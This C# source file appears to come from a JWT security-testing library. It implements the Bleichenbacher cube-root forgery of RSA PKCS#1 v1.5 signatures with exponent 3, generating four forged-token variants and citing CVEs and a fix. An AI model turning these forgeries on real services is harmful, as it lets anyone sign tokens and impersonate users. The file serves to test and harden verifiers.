using System.Security.Cryptography;
using System.Text;
using CryptoAssert.Jwt.Jose;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// A signature by cube root: with the public exponent 3, a verifier that looks for the hash in the block instead of comparing
/// the whole block takes a number that anyone can compute. Daniel Bleichenbacher, 2006 (CVE-2006-4339: OpenSSL, NSS, GnuTLS);
/// BERserk, 2014 (CVE-2014-1568); python-rsa, 2016 (CVE-2016-1494).
/// </summary>
internal sealed class RsaPkcs1Forgery : JwtAttack
{
    public override string Id => "CRY1091";

    public override JwtFamily Family => JwtFamily.Signature;

    public override IReadOnlyList<int> Cwe => [347, 780];

    public override IReadOnlyList<string> References =>
        ["RFC 8725 3.4", "RFC 8017 8.2.2", "CVE-2006-4339", "CVE-2014-1568", "CVE-2016-1494"];

    public override string Cause => "accepted an RSA signature that was computed from the public key alone";

    public override string Why => "anyone can sign anything by a cube root: anyone can become anyone";

    public override string Fix =>
        "verify with AddJwtBearer or RSA.VerifyData, which compare the whole padded block, and replace the key by one with the exponent 65537";

    internal override Needs Needs => Needs.PublicKey | Needs.RsaToken;

    internal override string? NotApplicableBecause(Attacker attacker) =>
        !attacker.Token.Alg.StartsWith("RS", StringComparison.Ordinal) ? $"the service signs with {attacker.Token.Alg}, not "
            + "with RS*"
        : Sizes(attacker).Count == 0 ? "no known public key of the service has the exponent 3"
        : null;

    internal override IEnumerable<Forgery> Forge(Attacker attacker)
    {
        var token = attacker.Token;
        var hash = JwsSigner.Hash(token.Alg);
        var (header, digest) = OddDigest(token, hash);
        foreach (var size in Sizes(attacker))
        {
            var genuine = Pkcs1Block.DigestInfo(hash, Digest(token.SigningInput, hash));
            var odd = Pkcs1Block.DigestInfo(hash, digest);
            var (before, after) = Pkcs1Block.AroundParameters(hash, digest, size);
            (string Header, byte[]? Signature, string Variant)[] forged =
            [
                (token.HeaderSegment, Root([0, 1, .. Pkcs1Block.ShortestPadding, 0, .. genuine], [], size), "garbage behind the hash"),
                (token.HeaderSegment, Root([0, 1, 0, .. genuine], [], size), "no padding, garbage behind the hash"),
                (header, Root(before, after, size), "garbage in the parameters of the hash algorithm"),
                (header, Root([0, 1], [0, .. odd], size, withoutZeros: true), "garbage in place of the padding"),
            ];
            foreach (var (segment, signature, variant) in forged.Where(forgery => forgery.Signature is not null))
            {
                yield return new Forgery($"{segment}.{token.PayloadSegment}.{RawJwt.Segment(signature)}", variant);
            }
        }

        byte[]? Root(ReadOnlySpan<byte> prefix, ReadOnlySpan<byte> suffix, int size, bool withoutZeros = false) =>
            CubeRoots.Between(prefix, suffix, size, attacker.Random, withoutZeros);
    }

    /// <summary>The bytes of the moduli whose exponent is 3.</summary>
    private static List<int> Sizes(Attacker attacker) =>
    [
        .. attacker.PublicKeys.Select(JwsSigner.Rsa).OfType<RSA>()
            .Select(rsa => rsa.ExportParameters(includePrivateParameters: false))
            .Where(key => EcdsaSignatures.Unsigned(key.Exponent) == 3)
            .Select(key => key.Modulus!.Length)
            .Distinct(),
    ];

    /// <summary>
    /// A header whose trailing blanks, which mean nothing in JSON, make the hash odd: only such a one is the end of a
    /// cube.
    /// </summary>
    private static (string Header, byte[] Digest) OddDigest(RawJwt token, HashAlgorithmName hash)
    {
        var header = token.HeaderSegment;
        var blanks = "";
        byte[] digest;
        while ((digest = Digest($"{header}.{token.PayloadSegment}", hash))[^1] % 2 == 0)
        {
            blanks += " ";
            header = RawJwt.Segment(Encoding.UTF8.GetString(RawJwt.Utf8(token.Header)) + blanks);
        }

        return (header, digest);
    }

    private static byte[] Digest(string signingInput, HashAlgorithmName hash) =>
        CryptographicOperations.HashData(hash, Encoding.ASCII.GetBytes(signingInput));
}
